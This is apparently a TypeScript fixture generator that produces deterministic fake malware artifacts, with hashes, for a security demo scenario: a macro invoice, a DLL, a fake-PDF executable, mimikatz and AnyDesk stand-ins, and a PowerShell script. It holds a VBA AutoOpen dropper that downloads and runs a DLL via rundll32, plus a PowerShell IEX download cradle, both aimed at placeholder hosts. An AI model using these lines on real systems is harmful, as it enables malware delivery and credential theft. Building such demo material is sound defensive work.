import { createHash } from 'node:crypto';
import { type Random } from './random';

/** A file of the scenario: its bytes (deterministic) and hashes. */
export interface DemoFile {
  name: string;
  contentType: string;
  content: Buffer;
  md5: string;
  sha1: string;
  sha256: string;
}

function described(name: string, contentType: string, content: Buffer): DemoFile {
  const digest = (algorithm: string) => createHash(algorithm).update(content).digest('hex');
  return { name, contentType, content, md5: digest('md5'), sha1: digest('sha1'), sha256: digest('sha256') };
}

/** A Windows executable: DOS header and stub, PE header at 0x80, then sections of noise. */
function portableExecutable(random: Random, size: number, strings: string[]): Buffer {
  const out = random.bytes(size);
  out.fill(0, 0, 0x80);
  out.write('MZ', 0, 'latin1');
  out.writeUInt16LE(0x90, 2);
  out.writeUInt32LE(0x80, 0x3c);
  out.write('This program cannot be run in DOS mode.\r\r\n$', 0x4e, 'latin1');
  out.write('PE\0\0', 0x80, 'latin1');
  out.writeUInt16LE(0x8664, 0x84);
  out.writeUInt16LE(5, 0x86);
  let at = 0x400;
  for (const text of strings) {
    out.write(text, at, 'latin1');
    at += text.length + 16;
  }
  return out;
}

/** A legacy Word document (OLE2 compound file) whose VBA project runs on open. */
function macroDocument(random: Random): Buffer {
  const out = random.bytes(24_576);
  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(out, 0);
  out.fill(0, 8, 0x200);
  const vba = [
    'Attribute VB_Name = "ThisDocument"',
    'Sub AutoOpen()',
    '  Dim p As String: p = Environ("APPDATA") & "\\Microsoft\\Office\\msoffsync.dll"',
    '  Set x = CreateObject("MSXML2.ServerXMLHTTP"): x.Open "GET", "https://cdn-telemetry-sync.net/s/a.bin", False',
    '  x.Send: Set s = CreateObject("ADODB.Stream"): s.Type = 1: s.Open: s.Write x.responseBody',
    '  s.SaveToFile p, 2: Shell "rundll32.exe " & p & ",DllRegisterServer", 0',
    'End Sub',
  ].join('\r\n');
  out.write(vba, 0x2400, 'latin1');
  return out;
}

function pdf(random: Random, title: string, lines: string[]): Buffer {
  const text = lines.map((l, i) => `BT /F1 11 Tf 72 ${720 - i * 16} Td (${l.replace(/[()\\]/g, '')}) Tj ET`).join('\n');
  const body = [
    '%PDF-1.7',
    '1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj',
    '2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj',
    '3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >> endobj',
    `4 0 obj << /Length ${text.length} >> stream`,
    text,
    'endstream endobj',
    `5 0 obj << /Title (${title}) /Producer (Northwind Billing 4.2) >> endobj`,
    'trailer << /Root 1 0 R /Info 5 0 R >>',
    '%%EOF',
    '',
  ].join('\n');
  return Buffer.concat([Buffer.from(body, 'latin1'), Buffer.from(`% ${random.hex(64)}\n`, 'latin1')]);
}

/** The files of the scenario, by name. The same seed gives the same bytes and hashes. */
export function scenarioFiles(random: Random): Map<string, DemoFile> {
  const files = [
    described('Invoice_INV-88231.doc', 'application/msword', macroDocument(random.fork('doc'))),
    described(
      'msoffsync.dll',
      'application/x-msdownload',
      portableExecutable(random.fork('dll'), 61_440, ['DllRegisterServer', 'cdn-telemetry-sync.net', 'Mozilla/5.0']),
    ),
    described(
      'Lab_Results_2291.pdf.exe',
      'application/x-msdownload',
      portableExecutable(random.fork('exe'), 184_320, ['Login Data', 'Cookies', 'wallet.dat', 'labresults-share.xyz']),
    ),
    described(
      'mimikatz.exe',
      'application/x-msdownload',
      portableExecutable(random.fork('mimi'), 327_680, ['sekurlsa::logonpasswords', 'lsadump::sam']),
    ),
    described(
      'AnyDesk.exe',
      'application/x-msdownload',
      portableExecutable(random.fork('anydesk'), 409_600, ['AnyDesk Software GmbH']),
    ),
    described(
      'upd.ps1',
      'text/plain',
      Buffer.from(
        "$w=New-Object Net.WebClient;$w.Headers.Add('User-Agent','Mozilla/5.0');IEX $w.DownloadString('http://203.0.113.66/a');\n",
      ),
    ),
  ];
  return new Map(files.map((f) => [f.name, f]));
}

/** An ordinary business document: a PDF with the given lines. */
export function businessPdf(random: Random, name: string, lines: string[]): DemoFile {
  return described(name, 'application/pdf', pdf(random, name.replace(/\.pdf$/i, ''), lines));
}
